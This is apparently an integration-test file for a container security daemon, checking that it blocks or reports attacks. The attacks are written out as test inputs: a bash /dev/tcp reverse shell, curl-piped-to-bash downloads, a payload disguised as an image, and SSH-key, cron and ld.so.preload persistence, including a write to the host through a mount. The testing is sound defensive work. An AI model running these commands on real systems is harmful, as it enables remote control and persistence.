//! The attacks of the case, in real containers: what is promised in `protect` is looked for at its
//! effect, and in `monitor` both the effect and the finding must be there.

use crate::container::Container;
use crate::daemon::outcome;
use crate::lab::Peer;
use crate::pace;
use crate::shared::{self, Watch};
use anyhow::{Context, Result, ensure};
use std::fs;
use std::sync::Arc;
use std::time::{Duration, Instant};

/// How often a race is tried.
const TRIES: usize = 50;
/// What an attacker at the other end types.
const COMMANDS: &str = "echo owned > /tmp/effect\nexit\n";

/// A container, and the daemon that watches it.
pub struct Stage {
    /// Attacked.
    pub container: Container,
    /// On watch.
    pub watch: Arc<Watch>,
}

/// Makes them.
pub fn stage(mode: &'static str) -> Result<Stage> {
    let watch = shared::watch(mode)?;
    let container = Container::start(&watch.group)?;
    Ok(Stage { container, watch })
}

impl Stage {
    /// Is the file there in the container?
    pub fn has(&self, path: &str) -> bool {
        fs::symlink_metadata(self.container.path(path)).is_ok()
    }

    /// Is the text in the file?
    pub fn holds(&self, path: &str, text: &str) -> bool {
        fs::read_to_string(self.container.path(path)).is_ok_and(|found| found.contains(text))
    }
}

fn reverse_shell(port: u16) -> String {
    format!("bash -c 'bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1'")
}

/// Not one byte reaches the attacker, and nothing he typed is run.
pub fn reverse_shell_killed_in_protect() -> Result<()> {
    let stage = stage("protect")?;
    let peer = Peer::shell(stage.container.listen()?, COMMANDS, pace::wait(Duration::from_secs(3)))?;
    stage.container.run(&reverse_shell(peer.port))?;
    let alert = stage.watch.daemon.await_alert("reverse_shell", stage.container.id())?;
    ensure!(outcome(&alert) == "killed", "outcome {}", outcome(&alert));
    ensure!(alert["bulkhead"]["enforced_by"] == "signal", "enforced by {}", alert["bulkhead"]["enforced_by"]);
    ensure!(alert["destination"]["port"] == peer.port, "destination {}", alert["destination"]);
    ensure!(!stage.has("/tmp/effect"), "the attacker's command ran");
    ensure!(peer.received() == 0, "the attacker received {} bytes", peer.received());
    Ok(())
}

/// The same attack works under `monitor`, which only tells: the test above tests something.
pub fn reverse_shell_found_in_monitor() -> Result<()> {
    let stage = stage("monitor")?;
    let peer = Peer::shell(stage.container.listen()?, COMMANDS, pace::wait(Duration::from_secs(3)))?;
    stage.container.run(&reverse_shell(peer.port))?;
    let alert = stage.watch.daemon.await_alert("reverse_shell", stage.container.id())?;
    ensure!(outcome(&alert) == "observed", "outcome {}", outcome(&alert));
    let tree = alert["bulkhead"]["process_tree"].as_array().context("no process tree")?;
    ensure!(tree.iter().any(|node| node["name"] == "bash"), "process tree {tree:?}");
    ensure!(stage.has("/tmp/effect"), "monitor mode touched it");
    Ok(())
}

/// `curl … | bash`, whichever of the two the scheduler starts first.
pub fn pipe_to_shell_never_runs() -> Result<()> {
    let watched = stage("monitor")?;
    let peer = Peer::web(watched.container.listen()?, "touch /tmp/ran\n")?;
    watched.container.run(&format!("curl -s http://127.0.0.1:{}/logo3.jpg | bash -s", peer.port))?;
    ensure!(watched.has("/tmp/ran"), "monitor mode touched it, or the stage is broken");
    let alert = watched.watch.daemon.await_alert("download_exec", watched.container.id())?;
    ensure!(outcome(&alert) == "observed", "outcome {}", outcome(&alert));
    drop(watched);

    let stage = stage("protect")?;
    let peer = Peer::web(stage.container.listen()?, "touch /tmp/ran\n")?;
    let tries = pace::times(TRIES);
    for round in 1..=tries {
        let script = match round % 3 {
            0 => format!("curl -s http://127.0.0.1:{}/x | cat | bash", peer.port),
            1 => format!("curl -s http://127.0.0.1:{}/x | bash", peer.port),
            _ => format!("curl -s http://127.0.0.1:{}/x | sh -s", peer.port),
        };
        stage.container.run(&script)?;
        ensure!(
            !stage.has("/tmp/ran"),
            "the payload ran in round {round} of {tries}: {script}; runs of programs missed: {}",
            stage.watch.daemon.missed_runs()
        );
    }
    stage.watch.daemon.await_alert("download_exec", stage.container.id())?;
    Ok(())
}

/// Saved under a harmless name, then run: directly, renamed, as a copy, as a program. Every one is a
/// finding of its own.
pub fn downloaded_script_never_runs() -> Result<()> {
    let runs = [
        "bash /tmp/logo3.jpg",
        "mv /tmp/logo3.jpg /tmp/renamed; sh /tmp/renamed",
        "cp /tmp/logo3.jpg /tmp/copy; bash /tmp/copy",
        "chmod +x /tmp/logo3.jpg; /tmp/logo3.jpg",
        "sh < /tmp/logo3.jpg",
        "cat < /tmp/logo3.jpg | bash",
    ];
    for mode in ["monitor", "protect"] {
        let stage = stage(mode)?;
        let peer = Peer::web(stage.container.listen()?, "#!/bin/sh\ntouch /tmp/ran\n")?;
        for (before, run) in runs.iter().enumerate() {
            let fetch = format!("curl -s -o /tmp/logo3.jpg http://127.0.0.1:{}/logo3.jpg", peer.port);
            stage.container.run(&fetch)?;
            ensure!(stage.holds("/tmp/logo3.jpg", "touch"), "{mode}: the download itself did not work");
            stage.container.run(run)?;
            ensure!(stage.has("/tmp/ran") == (mode == "monitor"), "{mode}: wrong effect of: {run}");
            stage.watch.daemon.await_alerts("download_exec", stage.container.id(), before + 1).context(*run)?;
            stage.container.run("rm -f /tmp/ran /tmp/logo3.jpg /tmp/renamed /tmp/copy")?;
        }
        let alert = stage.watch.daemon.await_alert("download_exec", stage.container.id())?;
        // What a security module can refuse is not killed.
        let expected: &[&str] = if mode == "protect" { &["killed", "denied"] } else { &["observed"] };
        ensure!(expected.contains(&outcome(&alert)), "{mode}: outcome {}", outcome(&alert));
    }
    Ok(())
}

/// `. file` and `source file`: to the kernel an open like that of `tar xz < file`, which a shell does
/// for its child. It is found, and in `protect` the shell is killed, by the daemon and so perhaps after
/// the first command.
pub fn sourced_script_is_found() -> Result<()> {
    let stage = stage("monitor")?;
    let peer = Peer::web(stage.container.listen()?, "touch /tmp/ran\n")?;
    stage.container.run(&format!("curl -s -o /tmp/logo3.jpg http://127.0.0.1:{}/logo3.jpg", peer.port))?;
    stage.container.run("tar tf - < /tmp/logo3.jpg; wc -c < /tmp/logo3.jpg; true")?;
    std::thread::sleep(pace::wait(Duration::from_millis(300)));
    let alerts = stage.watch.daemon.alerts("download_exec", stage.container.id());
    ensure!(alerts.is_empty(), "data that is only read is no program: {alerts:?}");
    stage.container.run("bash -c '. /tmp/logo3.jpg; true'")?;
    ensure!(stage.has("/tmp/ran"), "monitor mode touched it");
    stage.watch.daemon.await_alert("download_exec", stage.container.id())?;
    Ok(())
}

/// An SSH key and a cron line: found in `monitor`, not in the file in `protect`.
pub fn cron_and_key_writes() -> Result<()> {
    let acts = [
        (
            "persistence_ssh_key",
            "mkdir -p /root/.ssh; echo ssh-rsa AAAAattacker >> /root/.ssh/authorized_keys",
            "/root/.ssh/authorized_keys",
        ),
        ("persistence_cron", "echo '* * * * * root true # attacker' > /etc/cron.d/attacker", "/etc/cron.d/attacker"),
        ("persistence_cron", "echo '* * * * * root true # attacker' >> /etc/crontab", "/etc/crontab"),
    ];
    for mode in ["monitor", "protect"] {
        let stage = stage(mode)?;
        for (kind, act, file) in acts {
            stage.container.run("mkdir -p /etc/cron.d")?;
            stage.container.run(act)?;
            let alert =
                stage.watch.daemon.await_row(&format!("{kind} of {file}"), crate::daemon::ALERT_WAIT, |row| {
                    crate::daemon::is_alert(row, kind, stage.container.id()) && row["file"]["path"] == file
                })?;
            ensure!(
                stage.holds(file, "attacker") == (mode == "monitor"),
                "{mode}: wrong content of {file} after: {act}"
            );
            ensure!((outcome(&alert) == "observed") == (mode == "monitor"), "{mode}: outcome {}", outcome(&alert));
        }
    }
    Ok(())
}

/// An entry point that installs its image's own jobs before it starts the service is left alone, in `protect` as well; for a
/// session that does the same, or the entry point that preloads a library, nothing is changed.
pub fn entry_point_installs_its_own_jobs() -> Result<()> {
    let watch = shared::watch("protect")?;
    let entry_point = "sh -c 'mkdir -p /etc/cron.d /var/spool/cron; echo \"* * * * * root true\" > /etc/cron.d/own; \
                       echo \"* * * * * true\" > /tmp/tab; mv /tmp/tab /var/spool/cron/root; \
                       echo export OWN=1 > /etc/profile.d/own.sh; touch /tmp/is-up; \
                       (echo /tmp/x.so > /etc/ld.so.preload); sleep infinity'";
    let container = Container::start_as(&watch.group, entry_point)?;
    let until = Instant::now() + pace::wait(Duration::from_secs(5));
    while !container.path("/tmp/is-up").exists() {
        ensure!(Instant::now() < until, "the entry point was stopped: {:?}", watch.daemon.log());
        std::thread::sleep(Duration::from_millis(20));
    }
    for file in ["/etc/cron.d/own", "/var/spool/cron/root", "/etc/profile.d/own.sh"] {
        ensure!(fs::metadata(container.path(file)).is_ok_and(|file| file.len() > 0), "{file} was not written");
    }
    let alert = watch.daemon.await_alert("persistence_other", container.id())?;
    ensure!(alert["file"]["path"] == "/etc/ld.so.preload", "{}", alert["message"]);
    let preload = fs::read_to_string(container.path("/etc/ld.so.preload")).unwrap_or_default();
    ensure!(preload.is_empty(), "the preloaded library was written");
    ensure!(watch.daemon.alerts("persistence_cron", container.id()).is_empty(), "its own jobs are told of");
    container.run("echo '* * * * * root true # attacker' > /etc/cron.d/attacker")?;
    watch.daemon.await_alert("persistence_cron", container.id())?;
    let written = fs::read_to_string(container.path("/etc/cron.d/attacker")).unwrap_or_default();
    ensure!(written.is_empty(), "a session's crontab was written");
    Ok(())
}

/// The case itself: a cron line for the host, through a mount of the host's folders. Found as an escape
/// too, and in `protect` not in the host's file.
pub fn host_mount_write_is_escape() -> Result<()> {
    for mode in ["monitor", "protect"] {
        let host = tempfile::tempdir()?;
        fs::create_dir_all(host.path().join("etc/cron.d"))?;
        let watch = shared::watch(mode)?;
        let container = Container::start_with(&watch.group, Some(host.path()))?;
        container.run("echo '* * * * * root true # attacker' >> /mnt/etc/crontab")?;
        container.run("echo '* * * * * root true # attacker' > /mnt/etc/cron.d/x")?;
        let found = |kind: &str| watch.daemon.await_alert(kind, container.id());
        found("escape").with_context(|| mode)?;
        let alert = found("persistence_cron").with_context(|| mode)?;
        ensure!((outcome(&alert) == "observed") == (mode == "monitor"), "{mode}: outcome {}", outcome(&alert));
        for file in ["etc/crontab", "etc/cron.d/x"] {
            let written = fs::read_to_string(host.path().join(file)).unwrap_or_default().contains("attacker");
            ensure!(written == (mode == "monitor"), "{mode}: wrong content of the host's {file}");
        }
    }
    Ok(())
}
